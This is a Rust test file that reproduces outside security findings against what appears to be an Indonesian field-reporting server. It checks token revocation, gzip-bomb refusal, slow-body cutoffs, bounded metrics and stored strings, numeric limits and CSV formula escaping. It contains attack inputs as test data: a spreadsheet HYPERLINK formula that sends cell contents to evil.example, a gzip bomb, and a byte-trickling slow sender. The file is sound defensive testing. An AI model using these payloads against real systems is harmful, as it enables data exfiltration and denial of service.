//! Holes found from outside (issue 16), each reproduced: NIK confirmation through sync
//! answers, inflated bodies, unbounded metrics labels and stored strings, tokens that outlive
//! their login, spreadsheet formulas, slow bodies, numbers past the domain's range.

use serde_json::{json, Value};

use crate::fixtures::*;
use crate::helpers::*;

fn result(answer: &Answer, i: usize) -> Value {
    answer.json["results"][i].clone()
}

/// Finding 2: re-sending a stored id with its visible fields answers the same whatever NIK
/// comes with it, so no answer tells the stored NIK; a re-send with other content is a
/// conflict, and conflicts are audited.
#[tokio::test]
async fn a_resent_activation_does_not_confirm_its_nik() {
    let w = World::new().await;
    let event = w.event(&w.staff.token).await;
    let mut item = activated(&event);
    item["nik"] = json!(test_nik(1));
    w.app
        .sync_items(&w.staff.token, std::slice::from_ref(&item))
        .await
        .assert_status(200);

    // A supervisor who sees the activation re-sends it with guessed NIKs: the right one,
    // wrong ones, none. Every answer is the same.
    let mut probes = Vec::new();
    for guess in [
        Some(test_nik(1)),
        Some(test_nik(2)),
        Some(test_nik(3)),
        None,
    ] {
        let mut probe = item.clone();
        probe["staff_id"] = json!(w.staff.id);
        match guess {
            Some(n) => probe["nik"] = json!(n),
            None => {
                probe.as_object_mut().expect("object").remove("nik");
            }
        }
        probes.push(probe);
    }
    let a = w.app.sync_items(&w.tala_sup.token, &probes).await;
    assert_eq!(
        statuses(&a),
        vec!["duplicate", "duplicate", "duplicate", "duplicate"],
        "{}",
        a.text
    );
    // The phone's own re-send is a duplicate too, and nothing was stored twice.
    let again = w.app.sync_items(&w.staff.token, &[item.clone()]).await;
    assert_eq!(statuses(&again), vec!["duplicate"]);
    assert_eq!(
        w.app.count("SELECT COUNT(*) AS n FROM activations").await,
        1
    );
    assert!(w.app.audit_entries("sync_conflict").await.is_empty());

    // A visible field that differs is a conflict, and it is audited with who sent it.
    let mut other = item.clone();
    other["sex"] = json!("male");
    let c = w
        .app
        .sync_items(&w.tala_sup.token, &[other.clone(), other])
        .await;
    assert_eq!(statuses(&c), vec!["conflict", "conflict"]);
    assert!(result(&c, 0).get("error").is_none());
    let entries = w.app.audit_entries("sync_conflict").await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0]["actor_id"], json!(w.tala_sup.id));
    assert_eq!(entries[0]["subject_id"], json!(event));
    assert_eq!(entries[0]["detail"]["count"], 2);
}

/// Finding 6: logging out ends the access tokens of that login at once, and so does a
/// reused refresh token; another login of the same user goes on working.
#[tokio::test]
async fn logout_and_refresh_reuse_end_the_logins_access_tokens_at_once() {
    let app = spawn_app().await;
    let tree = app.office_tree().await;
    let staff = app.create_user(&tree.regency, "field_staff").await;
    let (phone, phone_refresh) = app.login_tokens(&staff.username, &staff.password).await;
    let (laptop, laptop_refresh) = app.login_tokens(&staff.username, &staff.password).await;
    app.get("/me", &phone).await.assert_status(200);
    app.get("/me", &laptop).await.assert_status(200);

    app.post(
        "/auth/logout",
        &phone,
        json!({ "refresh_token": phone_refresh }),
    )
    .await
    .assert_status(204);
    app.get("/me", &phone)
        .await
        .assert_problem(401, "unauthorized");
    app.get("/me", &laptop).await.assert_status(200);

    // The laptop refreshes; someone replays the spent refresh token: the whole login ends,
    // the access tokens it gave out included.
    let renewed = app.refresh(&laptop_refresh).await;
    let renewed_access = renewed.assert_status(200)["access_token"]
        .as_str()
        .expect("access")
        .to_string();
    app.get("/me", &renewed_access).await.assert_status(200);
    // The laptop refreshes again, so the replay below is no lost answer (grace window) but
    // a real reuse.
    let renewed_refresh = renewed.json["refresh_token"].as_str().expect("refresh");
    let again = app.refresh(renewed_refresh).await;
    let again_access = again.assert_status(200)["access_token"]
        .as_str()
        .expect("access")
        .to_string();
    app.refresh(&laptop_refresh)
        .await
        .assert_problem(401, "unauthorized");
    for token in [&laptop, &renewed_access, &again_access] {
        app.get("/me", token)
            .await
            .assert_problem(401, "unauthorized");
    }
    // The account itself is fine: a new login works.
    let fresh = app.token_for(&staff.username, &staff.password).await;
    app.get("/me", &fresh).await.assert_status(200);
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(data).expect("gzip");
    enc.finish().expect("gzip")
}

/// The process's resident memory and its peak since the last reset, in bytes.
fn rss_and_peak() -> (u64, u64) {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let kb = |key: &str| {
        status
            .lines()
            .find(|l| l.starts_with(key))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|n| n.parse::<u64>().ok())
            .unwrap_or(0)
            * 1024
    };
    (kb("VmRSS:"), kb("VmHWM:"))
}

/// Finding 3: a gzip body is refused (413) once its inflated size passes the body limit,
/// before it is inflated any further; eight 64 MiB bombs at once do not raise the
/// server's peak memory by more than a fraction of that. Well-formed gzip bodies work.
#[tokio::test]
async fn a_gzip_bomb_is_refused_before_it_is_inflated() {
    let app = spawn_app().await;
    let login = |body: Vec<u8>, encoding: &'static str| {
        app.client
            .post(app.url("/auth/login"))
            .header("content-type", "application/json")
            .header("content-encoding", encoding)
            .body(body)
    };
    // An honest compressed login works.
    let honest = json!({"username": ROOT_USER, "password": ROOT_PASSWORD}).to_string();
    app.send(login(gzip(honest.as_bytes()), "gzip"))
        .await
        .assert_status(200);
    // Garbage that claims to be gzip, and a coding the server does not speak.
    app.send(login(b"not gzip at all".to_vec(), "gzip"))
        .await
        .assert_problem(400, "malformed_request");
    app.send(login(honest.clone().into_bytes(), "br"))
        .await
        .assert_problem(415, "unsupported_media_type");

    // 64 MiB of JSON whitespace: about 64 KiB compressed.
    let bomb = gzip(&vec![b' '; 64 * 1024 * 1024]);
    assert!(bomb.len() < 100 * 1024, "bomb is {} bytes", bomb.len());
    let (rss_before, _) = rss_and_peak();
    // Resets the peak (VmHWM) to the current resident size.
    let _ = std::fs::write("/proc/self/clear_refs", "5");
    let answers =
        futures_util::future::join_all((0..8).map(|_| app.send(login(bomb.clone(), "gzip")))).await;
    for a in &answers {
        a.assert_problem(413, "payload_too_large");
    }
    let (_, peak) = rss_and_peak();
    let grown = peak.saturating_sub(rss_before);
    assert!(
        grown < 160 * 1024 * 1024,
        "peak memory grew by {} MiB for eight bombs",
        grown / (1024 * 1024)
    );
}

/// Sends a request head, then the body a byte every `gap`, until the server answers or
/// closes; returns what it answered. Gives up (None) after `give_up`.
fn slow_sender(
    port: u16,
    head: String,
    chunked: bool,
    gap: std::time::Duration,
    give_up: std::time::Duration,
) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).expect("connect");
    s.set_read_timeout(Some(gap)).expect("timeout");
    s.write_all(head.as_bytes()).expect("head");
    let started = std::time::Instant::now();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while started.elapsed() < give_up {
        let byte: &[u8] = if chunked { b"1\r\n \r\n" } else { b" " };
        if s.write_all(byte).is_err() {
            // The server closed its side; read what it said before.
            let _ = s.read_to_end(&mut got);
            return Some(String::from_utf8_lossy(&got).into_owned());
        }
        match s.read(&mut buf) {
            Ok(0) => return Some(String::from_utf8_lossy(&got).into_owned()),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(_) => {}
        }
    }
    eprintln!("gave up; got so far: {}", String::from_utf8_lossy(&got));
    None
}

/// Finding 8: a body trickling in a byte at a time is cut off at the body timeout with a
/// 408 and a closed connection, whether it declared its length or is chunked.
#[tokio::test]
async fn a_body_that_trickles_in_is_cut_off_with_408() {
    let app = spawn_app_with(|s| s.body_timeout = 2).await;
    let port = app.port;
    for chunked in [false, true] {
        let framing = if chunked {
            "Transfer-Encoding: chunked".to_string()
        } else {
            "Content-Length: 100000".to_string()
        };
        let head = format!(
            "POST /api/v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{framing}\r\n\r\n"
        );
        let answer = tokio::task::spawn_blocking(move || {
            slow_sender(
                port,
                head,
                chunked,
                std::time::Duration::from_millis(300),
                std::time::Duration::from_secs(30),
            )
        })
        .await
        .expect("task")
        .unwrap_or_else(|| panic!("connection still open after 30 s (chunked: {chunked})"));
        assert!(
            answer.starts_with("HTTP/1.1 408"),
            "chunked {chunked}: {answer}"
        );
        assert!(answer.contains("request_timeout"), "{answer}");
    }
    // A body that arrives in time is untouched.
    app.login(ROOT_USER, ROOT_PASSWORD).await.assert_status(200);
}

/// Finding 8, between requests: on a kept-alive connection, the head of a later request
/// trickling in a byte at a time is cut off too (actix times only a connection's first head),
/// while requests that arrive whole keep the connection as long as they come.
#[tokio::test]
async fn a_later_head_that_trickles_in_on_a_kept_alive_connection_is_cut_off() {
    let app = spawn_app_with(|s| s.head_timeout = 1).await;
    let port = app.port;
    let closed = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).expect("connect");
        s.set_read_timeout(Some(std::time::Duration::from_millis(200)))
            .expect("timeout");
        let request = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n";
        // Whole requests, each within the keep-alive time: all answered on this connection.
        for _ in 0..4 {
            s.write_all(request).expect("request");
            let mut buf = [0u8; 1024];
            let mut got = Vec::new();
            while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut buf) {
                    Ok(0) => panic!("closed while requests came whole"),
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                    Err(_) => {}
                }
            }
            assert!(
                got.starts_with(b"HTTP/1.1 200"),
                "{}",
                String::from_utf8_lossy(&got)
            );
            std::thread::sleep(std::time::Duration::from_millis(500));
        }
        // Now a head a byte at a time, never finished.
        let started = std::time::Instant::now();
        for byte in b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
            .iter()
            .cycle()
        {
            if started.elapsed() > std::time::Duration::from_secs(30) {
                return false;
            }
            if s.write_all(&[*byte]).is_err() {
                return true;
            }
            let mut buf = [0u8; 64];
            if let Ok(0) = s.read(&mut buf) {
                return true;
            }
        }
        false
    })
    .await
    .expect("task");
    assert!(closed, "a trickling head kept its connection for 30 s");
    // The server serves on.
    app.login(ROOT_USER, ROOT_PASSWORD).await.assert_status(200);
}

/// Finding 4: any method name a client invents is counted as `other`, never as a label of
/// its own, and `/metrics` answers only with the metrics token when one is set (without
/// one, only on this machine, and not at all behind a proxy).
#[tokio::test]
async fn metrics_labels_are_bounded_and_metrics_need_the_token() {
    let token = "metrics-token-for-the-test-3f9a1c";
    let app = spawn_app_with(|s| {
        s.metrics_token = Some(secrecy::SecretString::from(token.to_string()));
    })
    .await;
    let invented = format!("INVENTED{}", "X".repeat(2000));
    for method in ["FROBNICATE", invented.as_str()] {
        let m = reqwest::Method::from_bytes(method.as_bytes()).expect("method");
        let a = app.send(app.client.request(m, app.url("/events"))).await;
        assert!(a.status.is_client_error(), "{}", a.status);
    }
    let bare = app.send(app.client.get(app.url("/metrics"))).await;
    bare.assert_problem(401, "unauthorized");
    let wrong = app
        .send(app.client.get(app.url("/metrics")).bearer_auth("guess"))
        .await;
    wrong.assert_problem(401, "unauthorized");
    let m = app
        .send(app.client.get(app.url("/metrics")).bearer_auth(token))
        .await;
    m.assert_status(200);
    assert!(m.text.contains("http_requests_total"), "{}", m.text);
    assert!(m.text.contains(r#"method="other""#), "{}", m.text);
    assert!(!m.text.contains("FROBNICATE"));
    assert!(!m.text.contains("INVENTED"));
    // Routes are labelled by their pattern, never by the path a client typed.
    let probe = uuid::Uuid::new_v4().to_string();
    app.get(&format!("/events/{probe}"), &app.root_token)
        .await
        .assert_problem(404, "not_found");
    app.get(&format!("/no/such/{probe}"), &app.root_token)
        .await
        .assert_problem(404, "not_found");
    let m = app
        .send(app.client.get(app.url("/metrics")).bearer_auth(token))
        .await;
    assert!(!m.text.contains(&probe));
    assert!(
        m.text.contains(r#"route="/api/v1/events/{id}""#),
        "{}",
        m.text
    );

    // No token: served on loopback, but not when a proxy is said to be in front.
    let local = spawn_app().await;
    local
        .send(local.client.get(local.url("/metrics")))
        .await
        .assert_status(200);
    let proxied = spawn_app_with(|s| s.trust_proxy = true).await;
    proxied
        .send(proxied.client.get(proxied.url("/metrics")))
        .await
        .assert_problem(401, "unauthorized");
}

/// Finding 5 and the login's 401: a failed login with a 3 MB username stores no more than
/// a username's worth of it, and the answer says what went wrong in the caller's language.
#[tokio::test]
async fn a_failed_login_stores_only_a_bounded_username() {
    let app = spawn_app().await;
    let huge = "x".repeat(3_000_000);
    let a = app.login(&huge, "whatever-password").await;
    a.assert_problem(401, "unauthorized");
    assert_eq!(
        a.json["detail"], "The username or password is not correct.",
        "{}",
        a.text
    );
    // A name that long is nobody's, even when it starts with a real one.
    let padded = format!("{ROOT_USER}{}", " ".repeat(100));
    app.login(&format!("{padded}x"), ROOT_PASSWORD)
        .await
        .assert_problem(401, "unauthorized");
    let long_password = "p".repeat(2_000_000);
    app.login(ROOT_USER, &long_password)
        .await
        .assert_problem(401, "unauthorized");
    assert_eq!(
        app.count("SELECT COUNT(*) AS n FROM login_throttle WHERE LENGTH(throttle_key) > 100")
            .await,
        0
    );
    assert_eq!(
        app.count("SELECT COUNT(*) AS n FROM audit_log WHERE LENGTH(detail) > 200")
            .await,
        0
    );
    assert_eq!(
        app.count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'login_failed'")
            .await,
        3
    );
    let id = app
        .send(
            app.client
                .post(app.url("/auth/login"))
                .header("accept-language", "id")
                .json(&json!({"username": "nobody", "password": "wrong-password"})),
        )
        .await;
    id.assert_problem(401, "unauthorized");
    assert_eq!(id.json["detail"], "Nama pengguna atau kata sandi salah.");
    let r = app.refresh("not-a-refresh-token").await;
    r.assert_problem(401, "unauthorized");
    assert!(
        r.json["detail"]
            .as_str()
            .unwrap_or("")
            .contains("refresh token"),
        "{}",
        r.text
    );
}

/// Finding 9: figures are bounded to what the domain allows (Indonesia has under 300
/// million people), so no report can wrap into a negative total.
#[tokio::test]
async fn numbers_past_the_domains_range_are_refused() {
    let w = World::new().await;
    let path = format!("/offices/{}/targets/2024", w.tala);
    let body = |population: i64, baseline: i64| {
        json!({
            "eligible_population": population,
            "target_percent": 30.0,
            "baseline_activations": baseline,
        })
    };
    let a = w
        .app
        .put(&path, &w.app.root_token, body(i64::MAX, i64::MAX))
        .await;
    a.assert_problem(422, "validation_failed");
    assert!(
        a.error_fields()
            .contains(&"eligible_population".to_string()),
        "{}",
        a.text
    );
    let a = w
        .app
        .put(&path, &w.app.root_token, body(300_000_001, 0))
        .await;
    assert_eq!(a.error_fields(), vec!["eligible_population"], "{}", a.text);
    let a = w
        .app
        .put(&path, &w.app.root_token, body(1000, 300_000_001))
        .await;
    assert_eq!(a.error_fields(), vec!["baseline_activations"], "{}", a.text);
    // The largest allowed figures give sane totals.
    w.app
        .put(&path, &w.app.root_token, body(300_000_000, 300_000_000))
        .await
        .assert_status(200);
    let p = w
        .app
        .get(
            &format!("/reports/progress?office_id={}&year=2024", w.tala),
            &w.app.root_token,
        )
        .await;
    let p = p.assert_status(200);
    assert_eq!(p["total_activations"], 300_000_000);
    assert_eq!(p["remaining"], 0);

    let mut event = w.event_body();
    event["cost_idr"] = json!(i64::MAX);
    let a = w.app.post("/events", &w.staff.token, event).await;
    a.assert_problem(422, "validation_failed");
    assert_eq!(a.error_fields(), vec!["cost_idr"], "{}", a.text);
}

/// Finding 7: a name that is a spreadsheet formula reaches the CSV as text (a leading `'`),
/// while numbers stay numbers.
#[tokio::test]
async fn csv_reports_carry_no_live_formulas() {
    let w = World::new().await;
    let event = w.event(&w.staff.token).await;
    w.app
        .sync_items(&w.staff.token, &[activated(&event)])
        .await
        .assert_status(200);
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Siti")"#;
    w.app
        .patch(
            &format!("/users/{}", w.staff.id),
            &w.app.root_token,
            json!({ "full_name": formula }),
        )
        .await
        .assert_status(200);
    let csv = w
        .app
        .send(
            w.app
                .client
                .get(w.app.url(&format!(
                    "/reports/staff?office_id={}&from=2024-03-01&to=2024-03-31",
                    w.tala
                )))
                .bearer_auth(&w.tala_sup.token)
                .header("accept", "text/csv"),
        )
        .await;
    csv.assert_status(200);
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let headers = reader.headers().expect("header row").clone();
    let name_at = headers
        .iter()
        .position(|h| h == "full_name")
        .expect("full_name column");
    let names: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[name_at].to_string())
        .collect();
    assert!(names.contains(&format!("'{formula}")), "{names:?}");
    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
}

/// From finding 12: a 422 names the errors of every stage of validation at once: an office
/// whose code does not fit its level and whose time zone is not Indonesia's reports both.
#[tokio::test]
async fn a_422_names_every_stages_errors() {
    let app = spawn_app().await;
    let a = app
        .post(
            "/offices",
            &app.root_token,
            json!({"code": "63.01", "name": "Kalimantan Selatan", "level": "province",
                   "timezone": "Europe/Paris"}),
        )
        .await;
    a.assert_problem(422, "validation_failed");
    let mut fields = a.error_fields();
    fields.sort();
    assert_eq!(fields, vec!["code", "timezone"], "{}", a.text);
    // Level against the parent, and a missing name, together.
    let b = app
        .post(
            "/offices",
            &app.root_token,
            json!({"code": "ID", "name": " ", "level": "national", "timezone": "Asia/Jakarta"}),
        )
        .await;
    let mut fields = b.error_fields();
    fields.sort();
    assert_eq!(fields, vec!["level", "name"], "{}", b.text);
    // Fixed, it goes through.
    app.post(
        "/offices",
        &app.root_token,
        json!({"code": "63", "name": "Kalimantan Selatan", "level": "province",
               "timezone": "Asia/Makassar"}),
    )
    .await
    .assert_status(201);
}

/// From finding 12: the nation's coverage report (every district and village, ~20 MB of
/// JSON) is streamed as it is written, not built whole as text first: five at once raise
/// the server's peak memory by far less than five copies of the answer would.
#[tokio::test]
async fn the_national_coverage_report_is_streamed() {
    let app = spawn_app().await;
    app.load_areas().await;
    let url = format!(
        "/reports/coverage?office_id={}&from=2024-01-01&to=2024-12-31",
        app.root_office_id
    );
    let one = app.get(&url, &app.root_token).await;
    let report = one.assert_status(200);
    let villages = report["villages"].as_array().map(Vec::len).unwrap_or(0);
    assert!(villages > 80_000, "{villages} villages");
    assert!(one.header("content-length").is_none(), "{:?}", one.headers);
    let size = one.text.len() as u64;

    let (rss_before, _) = rss_and_peak();
    let _ = std::fs::write("/proc/self/clear_refs", "5");
    // The bodies are counted and dropped as they arrive: only the server's memory grows.
    let fetch = || async {
        use futures_util::StreamExt;
        let resp = app
            .client
            .get(app.url(&url))
            .bearer_auth(&app.root_token)
            .send()
            .await
            .expect("sent");
        let mut body = resp.bytes_stream();
        let mut n = 0u64;
        while let Some(chunk) = body.next().await {
            n += chunk.expect("chunk").len() as u64;
        }
        n
    };
    let sizes = futures_util::future::join_all((0..5).map(|_| fetch())).await;
    let (_, peak) = rss_and_peak();
    assert!(sizes.iter().all(|n| *n == size), "{sizes:?} vs {size}");
    let grown = peak.saturating_sub(rss_before);
    eprintln!(
        "coverage: answer {} MiB, peak grew {} MiB for five",
        size >> 20,
        grown >> 20
    );
}

/// The same for an event: a blank title and a channel the office does not have are named
/// in one answer.
#[tokio::test]
async fn an_events_422_names_its_field_and_office_errors_together() {
    let w = World::new().await;
    let mut body = w.event_body();
    body["title"] = json!(" ");
    body["channel_key"] = json!("no_such_channel");
    body["area_code"] = json!("32.01.01");
    let a = w.app.post("/events", &w.staff.token, body).await;
    a.assert_problem(422, "validation_failed");
    let mut fields = a.error_fields();
    fields.sort();
    assert_eq!(
        fields,
        vec!["area_code", "channel_key", "title"],
        "{}",
        a.text
    );
}
